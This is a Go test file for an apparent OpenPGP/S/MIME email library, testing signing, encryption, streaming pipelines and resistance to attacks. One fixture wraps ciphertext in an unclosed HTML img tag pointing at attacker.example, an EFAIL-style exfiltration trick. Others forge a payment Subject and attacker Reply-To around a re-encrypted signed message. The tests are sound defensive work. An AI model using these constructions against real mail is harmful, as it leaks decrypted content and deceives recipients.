package flow

import (
	"bytes"
	"crypto"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	pgparmor "github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"github.com/mailseal/mailseal/core"
	"github.com/mailseal/mailseal/mime"
	"github.com/mailseal/mailseal/pgp"
	"github.com/mailseal/mailseal/smime"
)

func newKey(t testing.TB, name, email string) *openpgp.Entity {
	t.Helper()
	e, err := openpgp.NewEntity(name, "", email, &packet.Config{Algorithm: packet.PubKeyAlgoEdDSA})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

type fixture struct {
	alice, bob *openpgp.Entity
	op         *OpenPGP
}

func newFixture(t testing.TB) *fixture {
	f := &fixture{alice: newKey(t, "Alice", "alice@example.org"), bob: newKey(t, "Bob", "bob@example.org")}
	f.op = &OpenPGP{Engine: pgp.New(core.DefaultPolicy()), Keyring: pgp.Keyring{
		Certs:   openpgp.EntityList{f.alice, f.bob},
		Secrets: openpgp.EntityList{f.bob},
	}}
	return f
}

func parse(t testing.TB, data []byte) *mime.Message {
	t.Helper()
	m, err := mime.Parse(bytes.NewReader(data), mime.DefaultLimits(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { m.Close() })
	return m
}

func open(t testing.TB, f *fixture, data []byte, opts Options) *Result {
	t.Helper()
	opts.Limits = mime.DefaultLimits()
	opts.MemLimit = 1 << 20
	res, err := Open(parse(t, data), []Engine{f.op}, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { res.Close() })
	return res
}

const plainMsg = "From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: hi\r\n" +
	"Content-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob.\r\n"

func TestSignThenOpen(t *testing.T) {
	f := newFixture(t)
	var signed bytes.Buffer
	if err := f.op.Sign(&signed, parse(t, []byte(plainMsg)), f.alice); err != nil {
		t.Fatal(err)
	}
	res := open(t, f, signed.Bytes(), Options{})
	if res.Report.Status != core.StatusGood || res.Report.Protocol != core.ProtocolOpenPGP {
		t.Fatalf("report %+v", res.Report)
	}
	// Decrypting a signed-only message is an error, not a pass-through.
	_, err := Open(parse(t, signed.Bytes()), []Engine{f.op}, Options{Decrypt: true, Limits: mime.DefaultLimits()})
	if core.ExitCode(err) != core.ExitVerification {
		t.Fatalf("decrypt of a signed message: %v", err)
	}
	// Nested in multipart/mixed with unsigned text: partial, signed_part 1.
	nested := "From: Alice <alice@example.org>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" +
		signed.String() + "\r\n--b\r\nContent-Type: text/plain\r\n\r\nunsigned\r\n--b--\r\n"
	res = open(t, f, []byte(nested), Options{})
	if res.Report.Status != core.StatusPartial || res.Report.SignedPart != "1" || len(res.Report.Unprotected) != 1 {
		t.Fatalf("nested report %+v", res.Report)
	}
	// Named explicitly, the part is judged alone.
	res = open(t, f, []byte(nested), Options{Part: "1"})
	if res.Report.Status != core.StatusGood {
		t.Fatalf("--part 1 report %+v", res.Report)
	}
}

func TestEncryptThenOpen(t *testing.T) {
	f := newFixture(t)
	for _, sign := range []bool{false, true} {
		t.Run(fmt.Sprint("sign=", sign), func(t *testing.T) {
			var signer *openpgp.Entity
			if sign {
				signer = f.alice
			}
			var enc bytes.Buffer
			msg := strings.Replace(plainMsg, "Subject: hi\r\n", "Subject: hi\r\nBcc: carol@example.org\r\n", 1)
			if err := f.op.Encrypt(&enc, parse(t, []byte(msg)), []*openpgp.Entity{f.bob}, signer); err != nil {
				t.Fatal(err)
			}
			// Strings base64 cannot hold (a colon, '@', a space): "Bcc" alone
			// turns up in random armor now and then.
			if strings.Contains(enc.String(), "Bcc:") || strings.Contains(enc.String(), "carol@example.org") || strings.Contains(enc.String(), "Hello Bob") {
				t.Fatal("Bcc or plaintext in the encrypted message")
			}
			res := open(t, f, enc.Bytes(), Options{Decrypt: true})
			want := core.StatusUnsigned
			if sign {
				want = core.StatusGood
			}
			if res.Report.Status != want || !res.Report.Encrypted || res.Report.Integrity == "" {
				t.Fatalf("report %+v", res.Report)
			}
			var out bytes.Buffer
			if err := mime.WriteMessage(&out, res.Outer, res.Inner); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(out.String(), "Subject: hi\r\n") || !strings.Contains(out.String(), "\r\n\r\nHello Bob.\r\n") {
				t.Fatalf("decrypted message:\n%s", out.String())
			}
		})
	}
}

// Sign-then-encrypt as separate layers (RFC 3156 §6.1): the inner
// multipart/signed is verified after decryption.
func TestEncryptedSignedLayers(t *testing.T) {
	f := newFixture(t)
	var signed, enc bytes.Buffer
	if err := f.op.Sign(&signed, parse(t, []byte(plainMsg)), f.alice); err != nil {
		t.Fatal(err)
	}
	if err := f.op.Encrypt(&enc, parse(t, signed.Bytes()), []*openpgp.Entity{f.bob}, nil); err != nil {
		t.Fatal(err)
	}
	res := open(t, f, enc.Bytes(), Options{Decrypt: true})
	if res.Report.Status != core.StatusGood || len(res.Report.Signers) != 1 {
		t.Fatalf("report %+v", res.Report)
	}
}

func TestNestedCiphertextIsNotOpened(t *testing.T) {
	f := newFixture(t)
	var enc bytes.Buffer
	if err := f.op.Encrypt(&enc, parse(t, []byte(plainMsg)), []*openpgp.Entity{f.bob}, nil); err != nil {
		t.Fatal(err)
	}
	wrapped := "From: Alice <alice@example.org>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" +
		"Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--b\r\n" + enc.String() +
		"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
	res := open(t, f, []byte(wrapped), Options{Decrypt: true})
	if res.Report.Status != core.StatusPartial || res.Inner != nil || res.Report.EncryptedPart != "2" {
		t.Fatalf("report %+v inner %v", res.Report, res.Inner != nil)
	}
	res = open(t, f, []byte(wrapped), Options{Decrypt: true, Part: "2"})
	body, _ := io.ReadAll(res.Inner)
	if !bytes.Contains(body, []byte("Hello Bob.")) || bytes.Contains(body, []byte("attacker")) {
		t.Fatalf("--part 2 gave %q", body)
	}
}

func benchMessage(size int) []byte {
	var b bytes.Buffer
	b.WriteString("From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: bench\r\n" +
		"Content-Type: text/plain; charset=us-ascii\r\n\r\n")
	for b.Len() < size {
		b.WriteString("The quick brown fox jumps over the lazy dog, again and again and again.\r\n")
	}
	return b.Bytes()
}

// Benchmarks of whole PGP/MIME messages: parse, protect/open, write.
func BenchmarkMessages(b *testing.B) {
	f := newFixture(b)
	for _, size := range []int{4 << 10, 10 << 20} {
		msg := benchMessage(size)
		var signed, enc bytes.Buffer
		f.op.Sign(&signed, parse(b, msg), f.alice)
		f.op.Encrypt(&enc, parse(b, msg), []*openpgp.Entity{f.bob}, f.alice)
		name := fmt.Sprintf("%dKiB", size>>10)
		b.Run("sign/"+name, func(b *testing.B) {
			b.SetBytes(int64(len(msg)))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				m, _ := mime.Parse(bytes.NewReader(msg), mime.DefaultLimits(), 1<<20)
				if err := f.op.Sign(io.Discard, m, f.alice); err != nil {
					b.Fatal(err)
				}
				m.Close()
			}
		})
		b.Run("encrypt+sign/"+name, func(b *testing.B) {
			b.SetBytes(int64(len(msg)))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				m, _ := mime.Parse(bytes.NewReader(msg), mime.DefaultLimits(), 1<<20)
				if err := f.op.Encrypt(io.Discard, m, []*openpgp.Entity{f.bob}, f.alice); err != nil {
					b.Fatal(err)
				}
				m.Close()
			}
		})
		for _, c := range []struct {
			name    string
			data    []byte
			decrypt bool
		}{{"verify", signed.Bytes(), false}, {"decrypt+verify", enc.Bytes(), true}} {
			b.Run(c.name+"/"+name, func(b *testing.B) {
				b.SetBytes(int64(len(msg)))
				b.ReportAllocs()
				for i := 0; i < b.N; i++ {
					m, _ := mime.Parse(bytes.NewReader(c.data), mime.DefaultLimits(), 1<<20)
					res, err := Open(m, []Engine{f.op}, Options{Decrypt: c.decrypt, Limits: mime.DefaultLimits(), MemLimit: 1 << 20})
					if err != nil || res.Report.Status != core.StatusGood {
						b.Fatalf("%v %+v", err, res)
					}
					if res.Inner != nil {
						io.Copy(io.Discard, res.Inner)
					}
					res.Close()
					m.Close()
				}
			})
		}
	}
}

// failingWriter fails once n bytes were written.
type failingWriter struct{ n int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if w.n -= len(p); w.n < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

// An output that fails in the middle of a large message is reported, and
// the encryption pipeline's goroutines all end.
func TestEncryptFailureStopsPipeline(t *testing.T) {
	f := newFixture(t)
	sf := newSMIMEFixture(t)
	body := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\r\n", 100000) // ~3.7 MB
	msg := []byte("From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: big\r\n" +
		"Content-Type: text/plain\r\n\r\n" + body)
	before := runtime.NumGoroutine()
	for i := 0; i < 5; i++ {
		if err := f.op.Encrypt(&failingWriter{n: 1 << 20}, parse(t, msg), []*openpgp.Entity{f.bob}, f.alice); err == nil {
			t.Fatal("OpenPGP: no error from a failing output")
		}
		err := sf.flow().Encrypt(&failingWriter{n: 1 << 20}, parse(t, msg), []*x509.Certificate{sf.id.Cert},
			smime.EncryptOptions{}, []smime.Identity{sf.id}, smime.SignOptions{})
		if err == nil {
			t.Fatal("S/MIME: no error from a failing output")
		}
	}
	deadline := time.Now().Add(5 * time.Second)
	for runtime.NumGoroutine() > before {
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<16)
			t.Fatalf("%d goroutines left:\n%s", runtime.NumGoroutine()-before, buf[:runtime.Stack(buf, true)])
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// Messages large enough to start every pipeline stage (armor and base64
// decoding, spool, signature hashing, output) go through sign+encrypt and
// decrypt+verify intact, with both protocols, and a signed S/MIME message
// through verify. Run with -race, this checks the stages' hand-offs.
func TestLargeMessagesThroughThePipelines(t *testing.T) {
	f := newFixture(t)
	sf := newSMIMEFixture(t)
	body := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3\r\n", 40000) // ~3.2 MB
	msg := []byte("From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: big\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"xyz\"\r\n\r\n--xyz\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n" +
		"--xyz\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body + "--xyz--\r\n")
	smimeFlow := sf.flow()
	for _, tc := range []struct {
		name  string
		write func(w io.Writer, m *mime.Message) error
		eng   Engine
	}{
		{"openpgp", func(w io.Writer, m *mime.Message) error {
			return f.op.Encrypt(w, m, []*openpgp.Entity{f.bob}, f.alice)
		}, f.op},
		{"smime", func(w io.Writer, m *mime.Message) error {
			return smimeFlow.Encrypt(w, m, []*x509.Certificate{sf.id.Cert}, smime.EncryptOptions{}, []smime.Identity{sf.id}, smime.SignOptions{})
		}, smimeFlow},
		{"smime-signed", func(w io.Writer, m *mime.Message) error {
			return smimeFlow.Sign(w, m, []smime.Identity{sf.id}, smime.SignOptions{})
		}, smimeFlow},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var enc bytes.Buffer
			if err := tc.write(&enc, parse(t, msg)); err != nil {
				t.Fatal(err)
			}
			res, err := Open(parse(t, enc.Bytes()), []Engine{tc.eng}, Options{Decrypt: tc.name != "smime-signed", Limits: mime.DefaultLimits(), MemLimit: 1 << 20})
			if err != nil {
				t.Fatal(err)
			}
			defer res.Close()
			if res.Report.Status != core.StatusGood {
				t.Fatalf("report %+v", res.Report)
			}
			if res.Inner == nil {
				return // verified in place: nothing to write out
			}
			var out bytes.Buffer
			if err := mime.WriteMessage(&out, res.Outer, res.Inner); err != nil {
				t.Fatal(err)
			}
			if !bytes.Contains(out.Bytes(), []byte("\r\n\r\n"+body+"--xyz--\r\n")) {
				t.Fatalf("the attachment did not come through (%d bytes out)", out.Len())
			}
		})
	}
}

// A large S/MIME signed part inside encryption is hashed while the
// decrypted content is parsed: the signature is good over the signed
// bytes, bad over altered ones of the same length. (That Close stops a
// hashing nobody waits for is mime's TestPartHasher and
// TestHashSignedPartNoGoroutineLeft.)
func TestLargeSignedPartInsideEncryption(t *testing.T) {
	sf := newSMIMEFixture(t)
	smimeFlow := sf.flow()
	signed := largeSigned(t, sf)
	for _, tc := range goodAndAltered(signed) {
		res, err := Open(parse(t, smimeEncrypt(t, sf, tc.signed)), []Engine{smimeFlow}, Options{Decrypt: true, Limits: mime.DefaultLimits(), MemLimit: 64 << 10})
		if err != nil {
			t.Fatal(err)
		}
		part := res.inner.Root.Children[0]
		if _, ok := part.Digest(crypto.SHA256); !ok {
			t.Errorf("%s: the signed part was not hashed during the parse", tc.name)
		}
		if res.Report.Status != tc.want {
			t.Errorf("%s: status %s, want %s (%+v)", tc.name, res.Report.Status, tc.want, res.Report)
		}
		res.Close()
	}
}

// With Options.Output, the decrypted message is written while the
// signature inside is checked: the same bytes as written after Open, the
// same report; a signature that cannot be read fails Open before anything
// is written; Output's error is Open's.
func TestOpenOutputBesideCheck(t *testing.T) {
	sf := newSMIMEFixture(t)
	smimeFlow := sf.flow()
	signed := largeSigned(t, sf)
	opts := Options{Decrypt: true, Limits: mime.DefaultLimits(), MemLimit: 64 << 10}
	for _, tc := range goodAndAltered(signed) {
		enc := smimeEncrypt(t, sf, tc.signed)
		after, err := Open(parse(t, enc), []Engine{smimeFlow}, opts)
		if err != nil {
			t.Fatal(err)
		}
		var want bytes.Buffer
		if err := mime.WriteMessage(&want, after.Outer, after.Inner); err != nil {
			t.Fatal(err)
		}
		after.Close()

		var got bytes.Buffer
		o := opts
		o.Output = func(outer mime.Header, inner io.Reader) error { return mime.WriteMessage(&got, outer, inner) }
		res, err := Open(parse(t, enc), []Engine{smimeFlow}, o)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got.Bytes(), want.Bytes()) {
			t.Errorf("%s: output beside the check differs from output after it (%d and %d bytes)", tc.name, got.Len(), want.Len())
		}
		if res.Report.Status != tc.want || res.Report.Status != after.Report.Status || len(res.Report.Signers) != 1 {
			t.Errorf("%s: status %s, want %s (%+v)", tc.name, res.Report.Status, tc.want, res.Report)
		}
		res.Close()
	}

	// A signature part that is not a signature: an error, nothing written.
	i := bytes.LastIndex(signed, []byte("filename=smime.p7s\r\n\r\n"))
	if i < 0 {
		t.Fatal("no signature part")
	}
	broken := append(bytes.Clone(signed[:i]), "filename=smime.p7s\r\n\r\nAAAAAAAA\r\n--"...)
	broken = append(broken, signed[bytes.LastIndex(signed, []byte("\r\n--"))+4:]...)
	called := false
	o := opts
	o.Output = func(mime.Header, io.Reader) error { called = true; return nil }
	if _, err := Open(parse(t, smimeEncrypt(t, sf, broken)), []Engine{smimeFlow}, o); !errors.Is(err, core.ErrInput) || !strings.Contains(err.Error(), "smime: verify") || called {
		t.Errorf("unreadable signature: error %v, output written %v", err, called)
	}

	// Output's error comes back; the check is waited for.
	failed := errors.New("disk full")
	o.Output = func(mime.Header, io.Reader) error { return failed }
	if _, err := Open(parse(t, smimeEncrypt(t, sf, signed)), []Engine{smimeFlow}, o); !errors.Is(err, failed) {
		t.Errorf("output error: %v", err)
	}
}

// A large S/MIME multipart/signed message parsed with HashSignedPart is
// verified with the digests taken during the parse.
func TestLargeSignedPartVerified(t *testing.T) {
	sf := newSMIMEFixture(t)
	smimeFlow := sf.flow()
	signed := largeSigned(t, sf)
	engines := []Engine{newFixture(t).op, smimeFlow}
	for _, tc := range goodAndAltered(signed) {
		m, err := mime.Parse(bytes.NewReader(tc.signed), mime.DefaultLimits(), 64<<10, HashSignedPart([]Engine{&OpenPGP{}, &SMIME{}}))
		if err != nil {
			t.Fatal(err)
		}
		if _, ok := m.Root.Children[0].Digest(crypto.SHA256); !ok {
			t.Errorf("%s: the signed part was not hashed during the parse", tc.name)
		}
		res, err := Open(m, engines, Options{Limits: mime.DefaultLimits(), MemLimit: 64 << 10})
		if err != nil {
			t.Fatal(err)
		}
		if res.Report.Status != tc.want {
			t.Errorf("%s: status %s, want %s", tc.name, res.Report.Status, tc.want)
		}
		res.Close()
		m.Close()
	}
}

// largeSigned is a message with a ~650 KB attachment, signed with S/MIME
// (multipart/signed) by the fixture's identity; the attachment holds
// "WVphYmNk" for tests to alter.
func largeSigned(t *testing.T, sf *smimeFixture) []byte {
	t.Helper()
	body := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3\r\n", 8000)
	msg := []byte("From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: big\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body)
	var signed bytes.Buffer
	if err := sf.flow().Sign(&signed, parse(t, msg), []smime.Identity{sf.id}, smime.SignOptions{}); err != nil {
		t.Fatal(err)
	}
	return signed.Bytes()
}

type signedCase struct {
	name   string
	signed []byte
	want   core.Status
}

// goodAndAltered are a message from largeSigned and a copy altered after
// signing (the same length), with the status each should get.
func goodAndAltered(signed []byte) []signedCase {
	return []signedCase{
		{"good", signed, core.StatusGood},
		{"altered", bytes.Replace(signed, []byte("WVphYmNk"), []byte("WVphYmNl"), 1), core.StatusBad},
	}
}

// smimeEncrypt encrypts a message to the fixture's identity, unsigned.
func smimeEncrypt(t *testing.T, sf *smimeFixture, msg []byte) []byte {
	t.Helper()
	var enc bytes.Buffer
	if err := sf.flow().Encrypt(&enc, parse(t, msg), []*x509.Certificate{sf.id.Cert}, smime.EncryptOptions{}, nil, smime.SignOptions{}); err != nil {
		t.Fatal(err)
	}
	return enc.Bytes()
}

// Anyone who has the recipient's key can encrypt someone else's signed
// message under header fields of their own: with Header Protection on the
// decrypted root (hp="cipher", as mailseal's encrypt writes it), those
// fields were taken as the protected header of a good message (a new
// Subject, a Reply-To to the attacker, no warning). When the decrypted
// content is signed, the protected header is the signed one.
func TestSignedThenEncryptedByAnother(t *testing.T) {
	rewrap := func(t *testing.T, signed []byte) []byte {
		t.Helper()
		s := strings.Replace(string(signed), "Subject: hi\r\n", "Subject: Pay Mallory 10,000 EUR\r\nReply-To: mallory@example.net\r\n", 1)
		if s == string(signed) {
			t.Fatalf("no Subject to replace in\n%s", signed)
		}
		return []byte(s)
	}
	check := func(t *testing.T, res *Result) {
		t.Helper()
		var out bytes.Buffer
		if err := mime.WriteMessage(&out, res.Outer, res.Inner); err != nil {
			t.Fatal(err)
		}
		rep := res.Report
		if rep.Status != core.StatusGood {
			t.Fatalf("report %+v", rep)
		}
		if strings.Contains(out.String(), "Pay Mallory") || !strings.Contains(out.String(), "Subject: hi\r\n") {
			t.Errorf("the header fields around the signature were taken as protected:\n%s", out.String())
		}
		if !strings.Contains(strings.Join(rep.Warnings, "\n"), "Reply-To mallory@example.net") {
			t.Errorf("no Reply-To warning: %q", rep.Warnings)
		}
	}
	t.Run("openpgp", func(t *testing.T) {
		f := newFixture(t)
		var signed, enc bytes.Buffer
		if err := f.op.Sign(&signed, parse(t, []byte(plainMsg)), f.alice); err != nil {
			t.Fatal(err)
		}
		if err := f.op.Encrypt(&enc, parse(t, rewrap(t, signed.Bytes())), []*openpgp.Entity{f.bob}, nil); err != nil {
			t.Fatal(err)
		}
		check(t, open(t, f, enc.Bytes(), Options{Decrypt: true}))
	})
	for _, opaque := range []bool{false, true} {
		t.Run(fmt.Sprint("smime opaque=", opaque), func(t *testing.T) {
			sf := newSMIMEFixture(t)
			sm := sf.flow()
			var signed bytes.Buffer
			msg := strings.Replace(plainMsg, "Alice <alice@example.org>", "alice@example.org", 1)
			if err := sm.Sign(&signed, parse(t, []byte(msg)), []smime.Identity{sf.id}, smime.SignOptions{Opaque: opaque}); err != nil {
				t.Fatal(err)
			}
			res, err := Open(parse(t, smimeEncrypt(t, sf, rewrap(t, signed.Bytes()))), []Engine{sm},
				Options{Decrypt: true, Limits: mime.DefaultLimits(), MemLimit: 1 << 20})
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { res.Close() })
			check(t, res)
		})
	}
}

// The same with a part after the signature (review finding): the
// multipart/signed is still the wrapper, so its header fields are not
// taken as protected; the extra part makes the message partial.
func TestSignedThenEncryptedByAnotherWithFooter(t *testing.T) {
	f := newFixture(t)
	var signed, enc bytes.Buffer
	if err := f.op.Sign(&signed, parse(t, []byte(plainMsg)), f.alice); err != nil {
		t.Fatal(err)
	}
	s := strings.Replace(signed.String(), "Subject: hi\r\n", "Subject: Pay Mallory 10,000 EUR\r\nReply-To: mallory@example.net\r\n", 1)
	boundary := regexp.MustCompile(`boundary="?([^";\r\n]+)"?`).FindStringSubmatch(s)[1]
	s = strings.Replace(s, "--"+boundary+"--", "--"+boundary+"\r\nContent-Type: text/plain\r\n\r\n.\r\n--"+boundary+"--", 1)
	if err := f.op.Encrypt(&enc, parse(t, []byte(s)), []*openpgp.Entity{f.bob}, nil); err != nil {
		t.Fatal(err)
	}
	res := open(t, f, enc.Bytes(), Options{Decrypt: true})
	var out bytes.Buffer
	if err := mime.WriteMessage(&out, res.Outer, res.Inner); err != nil {
		t.Fatal(err)
	}
	if res.Report.Status != core.StatusPartial || strings.Contains(out.String(), "Pay Mallory") || strings.Contains(out.String(), "Reply-To: mallory") {
		t.Fatalf("status %s, output:\n%s", res.Report.Status, out.String())
	}
}

// OpenPGP data that is not encrypted (a bare literal data packet), in a
// multipart/encrypted, is refused, not reported as decrypted (review
// finding): anyone could make content look decrypted.
func TestPlainDataAsEncrypted(t *testing.T) {
	f := newFixture(t)
	var bin bytes.Buffer
	lw, err := packet.SerializeLiteral(nopCloser{&bin}, true, "", 0)
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(lw, "Content-Type: text/plain\r\n\r\nTransfer 10,000 EUR to Mallory.\r\n")
	lw.Close()
	var armored bytes.Buffer
	aw, _ := pgparmor.Encode(&armored, "PGP MESSAGE", nil)
	aw.Write(bin.Bytes())
	aw.Close()
	msg := "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: x\r\n" +
		"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n" +
		"--b\r\nContent-Type: application/octet-stream\r\n\r\n" + armored.String() + "\r\n--b--\r\n"
	_, err = Open(parse(t, []byte(msg)), []Engine{f.op}, Options{Decrypt: true, Limits: mime.DefaultLimits(), MemLimit: 1 << 20})
	if !errors.Is(err, core.ErrInput) || !strings.Contains(err.Error(), "not encrypted") {
		t.Fatalf("Open: %v", err)
	}
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }
